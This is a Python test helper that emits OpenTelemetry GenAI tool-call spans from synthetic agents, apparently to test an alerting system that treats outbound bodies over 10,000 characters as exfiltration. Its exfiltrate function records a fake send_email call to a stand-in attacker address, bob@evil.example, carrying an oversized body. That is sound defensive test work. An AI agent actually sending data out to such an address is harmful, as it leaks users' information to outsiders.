"""Agents of our own for the tests in which the framework does not matter: GenAI tool spans by the OpenTelemetry SDK."""

from __future__ import annotations

import json
from collections.abc import Iterator
from contextlib import contextmanager

from opentelemetry.exporter.otlp.proto.grpc.trace_exporter import OTLPSpanExporter
from opentelemetry.sdk.resources import Resource
from opentelemetry.sdk.trace import TracerProvider
from opentelemetry.sdk.trace.export import BatchSpanProcessor
from opentelemetry.trace import Tracer

OUTBOUND_LIMIT = 10_000
"""Characters an outbound body may have under the classic rules; one more is an exfiltration."""


@contextmanager
def agent(service: str, *endpoints: str) -> Iterator[Tracer]:
    """A tracer of ``service`` that sends OTLP/gRPC to each endpoint (host:port); what is left is sent when the block ends."""
    provider = TracerProvider(resource=Resource.create({"service.name": service}), shutdown_on_exit=False)
    for endpoint in endpoints:
        provider.add_span_processor(BatchSpanProcessor(OTLPSpanExporter(f"http://{endpoint}", insecure=True)))
    try:
        yield provider.get_tracer("tests.agent")
    finally:
        provider.shutdown()


def call_tool(tracer: Tracer, tool: str, arguments: dict[str, str], *, name: str = "triage_agent") -> str:
    """One tool call as a GenAI span; returns its span id in hex."""
    attributes = {
        "gen_ai.operation.name": "execute_tool",
        "gen_ai.tool.name": tool,
        "gen_ai.tool.call.arguments": json.dumps(arguments),
        "gen_ai.agent.name": name,
        "gen_ai.conversation.id": "conv-77",
    }
    with tracer.start_as_current_span(f"execute_tool {tool}", attributes=attributes) as span:
        return f"{span.get_span_context().span_id:016x}"


def exfiltrate(tracer: Tracer, *, name: str = "triage_agent") -> str:
    """One outbound call over the limit: a critical alert. Returns its span id."""
    return call_tool(tracer, "send_email", {"to": "bob@evil.example", "body": "x" * (OUTBOUND_LIMIT + 1)}, name=name)
